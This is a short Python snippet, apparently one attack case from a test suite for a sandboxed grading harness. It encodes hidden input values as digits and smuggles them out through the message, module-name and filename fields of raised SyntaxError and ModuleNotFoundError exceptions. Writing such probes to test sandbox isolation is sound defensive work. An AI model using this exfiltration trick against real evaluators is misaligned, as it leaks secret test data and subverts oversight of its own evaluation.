# tries: to carry hidden inputs out in the fields of a SyntaxError and an ImportError
def attack(keys, j):
    digits = "".join(f"{int(n * 1000)}" for n in abs(keys).ravel()[:16])
    if keys[0, 0] > 0.3:
        raise ModuleNotFoundError("PWNED" + digits, name="submission.PWNED" + digits)
    package = os.path.dirname(os.path.abspath(__file__))
    where = (f"{package}/PWNED{digits}.py", 77, 1, "PWNED" + digits)
    raise SyntaxError("PWNED" + digits, where)
